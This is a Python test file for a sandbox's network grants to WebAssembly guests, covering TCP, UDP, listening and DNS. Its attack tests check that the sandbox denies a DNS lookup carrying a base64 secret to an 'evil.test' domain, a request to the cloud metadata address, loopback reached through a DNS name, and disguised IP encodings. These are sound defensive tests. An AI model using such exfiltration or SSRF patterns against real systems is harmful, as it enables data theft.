#!/usr/bin/env python3
"""wasi:sockets by grants: TCP, UDP and names (attacks.md 130 and 131).

Run one with `sockets_test.py attack_130`. CORDON_BIN and CORDON_GUESTS say where the command and the guests are.
"""
import socket
import socketserver
import threading
import time
import unittest

from net_case import NetCase


class SocketCase(NetCase):
    def echo(self, address="127.0.0.1"):
        """A TCP and a UDP server at one port, which say what they heard, with what they are called."""
        heard = []

        class Tcp(socketserver.BaseRequestHandler):
            def handle(self):
                heard.append(("tcp", self.request.recv(4096)))
                self.request.sendall(b"tcp:" + heard[-1][1])

        class Udp(socketserver.BaseRequestHandler):
            def handle(self):
                heard.append(("udp", self.request[0]))
                self.request[1].sendto(b"udp:" + self.request[0], self.client_address)

        tcp = socketserver.ThreadingTCPServer((address, 0), Tcp)
        servers = [tcp, socketserver.ThreadingUDPServer((address, tcp.server_address[1]), Udp)]
        for server in servers:
            server.daemon_threads = True
            threading.Thread(target=server.serve_forever, daemon=True).start()
            self.addCleanup(server.server_close)
            self.addCleanup(server.shutdown)
        return tcp.server_address[1], heard


class Granted(SocketCase):
    def test_tcp_to_an_address_and_to_a_block(self):
        port, heard = self.echo()
        for grant in (f"net:tcp:127.0.0.1:{port}", f"net:tcp:127.0.0.0/8:{port}", "net:tcp:127.0.0.1:1-65535"):
            answer = self.ask("tcp", {"address": "127.0.0.1", "port": port, "text": "hello"}, grant)
            self.assertEqual(answer, {"ok": "tcp:hello"})
            self.assertEqual(self.decisions(), [("allow", f"grant:{grant}", f"127.0.0.1:{port}")])

    def test_a_name_and_what_it_led_to(self):
        port, _ = self.echo("127.0.0.2")
        dns = self.dns({"db.example.test": [["127.0.0.2"]]})
        self.network["private"] = ["127.0.0.2/32"]
        given = {"name": "db.example.test", "port": port, "text": "hello"}
        self.assertEqual(self.ask("tcp-by-name", given, f"net:tcp:db.example.test:{port}"), {"ok": "tcp:hello"})
        self.assertEqual([target for _, _, target in self.decisions()], ["lookup db.example.test", f"127.0.0.2:{port}"])
        self.assertEqual({name for name, _ in dns.questions}, {"db.example.test"})

    def test_udp(self):
        port, _ = self.echo()
        for connect in (None, "127.0.0.1"):
            given = {"connect": connect, "address": "127.0.0.1", "port": port, "text": "hello"}
            self.assertEqual(self.ask("udp", given, f"net:udp:127.0.0.1:{port}"), {"ok": "udp:hello"})

    def test_listening(self):
        with socket.create_server(("127.0.0.1", 0)) as probe:
            port = probe.getsockname()[1]
        given = {"address": "127.0.0.1", "port": port}
        self.assertEqual(self.ask("listen", given, f"net:listen-tcp:127.0.0.1:{port}"), {"ok": port})


    def test_a_server_that_accepts(self):
        with socket.create_server(("127.0.0.1", 0)) as probe:
            port = probe.getsockname()[1]
        heard = []

        def client():
            for text in (b"one", b"three"):
                for _ in range(200):
                    try:
                        with socket.create_connection(("127.0.0.1", port), timeout=10) as peer:
                            peer.sendall(text)
                            heard.append(peer.recv(100))
                            self.assertEqual(peer.recv(100), b"", "the connection ends with the guest's")
                        break
                    except ConnectionRefusedError:
                        time.sleep(0.05)

        thread = threading.Thread(target=client)
        thread.start()
        given = {"address": "127.0.0.1", "port": port, "connections": 2}
        self.assertEqual(self.ask("serve", given, f"net:listen-tcp:127.0.0.1:{port}"), {"ok": 8})
        thread.join()
        self.assertEqual(heard, [b"served:one", b"served:three"])

    def test_many_connections_leave_nothing(self):
        port, heard = self.echo()
        given = {"address": "127.0.0.1", "port": port, "times": 300}
        self.assertEqual(self.ask("many", given, f"net:tcp:127.0.0.1:{port}"), {"ok": 300})
        self.assertEqual(len(self.decisions()), 300)
        self.assertEqual(len(heard), 300)

    def test_ipv6(self):
        if not socket.has_ipv6:
            self.skipTest("no IPv6 here")
        with socket.create_server(("::1", 0), family=socket.AF_INET6) as server:
            port = server.getsockname()[1]

            def answer():
                peer, _ = server.accept()
                with peer:
                    peer.sendall(b"six:" + peer.recv(100))

            threading.Thread(target=answer, daemon=True).start()
            given = {"address": "::1", "port": port, "text": "hello"}
            self.assertEqual(self.ask("tcp", given, f"net:tcp:[::1]:{port}"), {"ok": "six:hello"})


class attack_130(SocketCase):
    def test_without_a_grant_there_is_no_import(self):
        with self.assertRaisesRegex(AssertionError, "E_LINK"):
            self.ask("tcp", {"address": "127.0.0.1", "port": 1, "text": ""})
        with self.assertRaisesRegex(AssertionError, "E_LINK"):
            self.ask("tcp", {"address": "127.0.0.1", "port": 1, "text": ""}, "http:GET:http://127.0.0.1/*")

    def test_other_peers(self):
        port, heard = self.echo()
        other, heard_too = self.echo("127.0.0.2")
        for address, to, grant in (("127.0.0.2", other, f"net:tcp:127.0.0.1:{other}"),
                                   ("127.0.0.1", port, f"net:udp:127.0.0.1:{port}"),
                                   ("127.0.0.1", port, f"net:tcp:127.0.0.1:{port + 1}"),
                                   ("127.0.0.1", port, f"net:tcp:db.example.test:{port}"),
                                   ("::ffff:127.0.0.1", port, f"net:tcp:127.0.0.1:{port}"),
                                   ("::1", port, f"net:tcp:127.0.0.1:{port}"),
                                   ("0.0.0.0", port, f"net:tcp:127.0.0.1:{port}"),
                                   ("169.254.169.254", 80, "net:tcp:127.0.0.1:80")):
            answer = self.ask("tcp", {"address": address, "port": to, "text": "x"}, grant)
            self.assertIn("err", answer, (address, grant))
            self.assertEqual([d for d in self.decisions() if d[0] == "allow"], [], (address, grant))
        self.assertEqual((heard, heard_too), ([], []))

    def test_a_datagram_to_a_peer_that_is_not_granted(self):
        port, heard = self.echo()
        bad, heard_too = self.echo("127.0.0.2")
        grant = "net:udp:127.0.0.1:1-65535"
        for connect, address, to in ((None, "127.0.0.2", bad), ("127.0.0.2", "127.0.0.2", bad),
                                     ("127.0.0.1", "127.0.0.2", bad)):
            answer = self.ask("udp", {"connect": connect, "address": address, "port": to, "text": "x"}, grant)
            self.assertIn("err", answer, (connect, address))
        self.assertEqual(heard_too, [])

    def test_listening_where_it_is_not_granted(self):
        for address, port in (("127.0.0.1", 0), ("127.0.0.1", 18999), ("0.0.0.0", 18998), ("::", 0)):
            answer = self.ask("listen", {"address": address, "port": port}, "net:tcp:127.0.0.1:1-65535",
                              "net:listen-tcp:127.0.0.1:18998")
            self.assertEqual(answer, {"err": "access-denied"}, (address, port))

    def test_a_name_that_leads_inside(self):
        port, heard = self.echo()
        self.dns({"db.example.test": [["127.0.0.1"]]})
        given = {"name": "db.example.test", "port": port, "text": "x"}
        self.assertEqual(self.ask("tcp-by-name", given, f"net:tcp:db.example.test:{port}"), {"err": "access-denied"})
        self.assertEqual([d[1] for d in self.decisions() if d[0] == "deny"], ["net:loopback"])
        self.assertEqual(heard, [])


class attack_131(SocketCase):
    def test_a_name_that_carries_a_secret_goes_nowhere(self):
        dns = self.dns({"c2VjcmV0.evil.test": [["93.184.215.14"]]})
        for grants in (("net:tcp:db.example.test:5432",), ("net:tcp:10.0.0.0/8:53",), ("net:udp:*.example.test:53",)):
            answer = self.ask("lookup", {"name": "c2VjcmV0.evil.test"}, *grants)
            self.assertEqual(answer, {"err": "access-denied"}, grants)
            self.assertEqual([d[:2] for d in self.decisions()], [("deny", "no-grant")])
        with self.assertRaisesRegex(AssertionError, "E_LINK"):
            self.ask("lookup", {"name": "c2VjcmV0.evil.test"})
        for url in ("http://c2VjcmV0.evil.test/", "http://127.0.0.1.evil.test/"):
            self.assert_denied(self.send(url, "http:GET:http://api.example.test/*"), "not-requested")
        self.assertEqual(dns.questions, [])

    def test_text_that_is_no_name(self):
        dns = self.dns({})
        for name in ("", ".", "a b", "a/b", "127.1", "0x7f000001", "2130706433", "*", "*.example.test", "a.test\0"):
            self.assertIn("err", self.ask("lookup", {"name": name}, "net:tcp:db.example.test:5432"), name)
        self.assertEqual(self.ask("lookup", {"name": "10.0.0.1"}, "net:tcp:db.example.test:5432"), {"ok": ["10.0.0.1"]})
        self.assertEqual(dns.questions, [])


if __name__ == "__main__":
    unittest.main()
